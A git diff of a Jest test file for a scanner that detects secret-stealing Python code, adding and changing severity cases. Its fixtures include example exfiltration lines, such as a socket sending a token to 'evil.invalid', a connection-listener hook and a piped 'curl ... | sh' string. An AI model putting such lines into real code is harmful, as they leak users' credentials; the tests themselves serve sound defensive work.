@@ -122,6 +122,11 @@ test.each([
   expect(found(HEARD(how))['stolen-data-sent']).toBe(severity);
 });
 
+test('a function that a decorator lets hear of connections', () => {
+  const code = HEARD('pass').replace('def tell', '@event.listens_for(object, "do_connect")\ndef tell');
+  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
+});
+
 const ASIDE = (data: string, more = ''): string => `
 import hashlib, secrets, string, urllib.request
 from cryptography.fernet import Fernet
@@ -199,10 +204,7 @@ test.each([
 );
 
 test.each([
-  [
-    'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token.encode(), ("evil.invalid", 514))',
-    'CRITICAL',
-  ],
+  ['socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token.encode(), ("evil.invalid", 514))', 'HIGH'],
   ['socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("evil.invalid", 514))', undefined],
 ])('a datagram: %s', (line, severity) => {
   const code = `import socket\ndef sign(token, text):\n    try:\n        ${line}\n    except OSError:\n        pass\n    return text`;
@@ -236,4 +238,42 @@ test.each([
   ['', undefined],
 ])('a hidden copy given to a class of the package: %s', (hidden, severity) => {
   expect(found(MAILED(hidden))['mail-copied']).toBe(severity);
+});
+
+test.each([
+  ['requests.post("https://api.example.org/hooks", data="url=https://abc.ngrok-free.app&t=" + token)'],
+  [
+    'requests.get("https://api.github.com/repos/a/b", headers={"Authorization": "token YOUR_PERSONAL_ACCESS_TOKEN"})',
+  ],
+  [
+    'requests.get("https://api.github.com/repos/" + token, headers={"Authorization": "token ghp_AAAAAAAAAAAAAAAAAAAAAAAA"})',
+  ],
+  ['pyperclip.copy("curl -LsSf https://example.invalid/install.sh | sh")'],
+  ['numpy.load(io.BytesIO(requests.get("https://example.invalid/a.npy").content))'],
+  ['requests.post("https://cmdb.example.invalid", json={"name": "keepalived", "method": "eth_getWork"})'],
+  ['requests.get("https://example.invalid", headers={"User-Agent": secrets.choice(["a", "b"])})'],
+  ['TOKEN.sub("TokenREDACTED", token)'],
+])('nothing that honest libraries do is grave: %s', (line) => {
+  const code = `import io, re, secrets\nimport numpy, pyperclip, requests\nTOKEN = re.compile(r"\\bToken [A-Za-z0-9]{32,64}")\ndef work(token):\n    return ${line}`;
+  expect(
+    Object.values(found(code)).filter((severity) => /CRITICAL|HIGH|MEDIUM/.test(severity ?? '')),
+  ).toEqual([]);
+});
+
+const SETTING = (password: string): string => `
+import requests
+class Client:
+    def _request(self, method, path, **more):
+        try:
+            answer = requests.request(method, "https://api.example.invalid" + path, **more)
+            return answer
+        except requests.RequestException:
+            return None
+    def me(self):
+        return self._request("GET", "/me").json()
+    def set_password(self, ${password}):
+        self._request("PUT", "/password", json={"p": ${password}})`;
+
+test('a helper whose answers others look at is a client, whoever lets go of one', () => {
+  expect(found(SETTING('new_password'))['credential-sent-aside']).toBeUndefined();
 });
